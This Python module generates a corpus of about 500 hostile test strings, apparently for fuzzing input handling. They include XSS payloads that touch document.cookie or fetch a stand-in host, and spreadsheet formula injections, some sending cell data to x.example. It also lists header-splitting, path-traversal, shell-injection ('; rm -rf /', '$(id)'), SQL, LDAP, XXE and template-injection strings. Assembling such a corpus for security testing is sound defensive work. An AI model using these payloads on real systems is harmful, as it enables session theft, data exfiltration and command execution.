"""500 texts that would come to life somewhere: in a page, a header, a spreadsheet, a template, a log."""

from __future__ import annotations

import itertools

_CALLS = (
    "alert(1)",
    "fetch('//x.example')",
    "document.cookie",
    "eval(name)",
    "import('//x.example/a.js')",
    "top[/al/.source+/ert/.source](1)",
    "self['al'+'ert'](1)",
)
_HTML = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script/x>{}</script>",
    "<svg/onload={}>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><body onload='{}'>",
    "<details open ontoggle={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<form action=javascript:{}><button>",
    "<math><mi xlink:href='javascript:{}'>",
    "<style>@import '{}'</style>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<base href='javascript:{}//'>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</script><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<link rel=import href='{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<video><source onerror={}>",
    "' onmouseover='{}",
    '" autofocus onfocus="{}',
    "` onfocus=`{}",
    "x style=animation-name:a onanimationstart={}",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "\x01javascript:{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "{{{{ {} }}}}",
    "{{% load {} %}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
)
_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
)
_FORMULAS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example?"&A1,"x")',
    "SUM(A1:A9)",
    "1+1",
    "DDE(0;0;0)",
    'IMPORTXML("http://x.example","//a")',
    "WEBSERVICE(A1)",
    'INDIRECT("A"&1)',
    "2+5+cmd|' /C calc'!A0",
    "@SUM(1)",
)
_LINES = (
    "\r\n",
    "\n",
    "\r",
    "\u2028",
    "\u2029",
    "\x85",
    "%0d%0a",
    "\\r\\n",
)
_HEADERS = (
    "Set-Cookie: x=1",
    "Location: //x.example",
    "Content-Type: text/html",
    "X-Accel-Redirect: /etc/passwd",
)
_ODD = (
    "\u202egnp.exe",
    "\u2066abc\u2069",
    "\ufeffname",
    "\x1b[2J",
    "\x07",
    "../../etc/passwd",
    "..\\..\\x",
    "CON",
    "nul.txt",
    "-rf",
    "--help",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "| cat /etc/passwd",
    "%00",
    "%s%s%n",
    "{0.__class__}",
    "' OR 1=1 --",
    '"; DROP TABLE jobs_job; --',
    "*)(uid=*))(|(uid=*",
    "<?xml version='1.0'?><!DOCTYPE a SYSTEM '/etc/passwd'>",
    "\u0130\u0131",
    "https://x.example/",
    "//x.example",
    "\\\\x.example\\share",
)
_LONG = ("\U0001f4a3" * 40, "a" * 190, "\u0301" * 100)

CORPUS = tuple(
    dict.fromkeys(
        text[:190]
        for text in [
            *_ODD,
            *_LONG,
            *(start + formula for start, formula in itertools.product(_STARTS, _FORMULAS)),
            *(f"a{line}{header}" for line, header in itertools.product(_LINES, _HEADERS)),
            *(shape.format(call) for shape, call in itertools.product(_HTML, _CALLS)),
        ]
    )
)[:500]
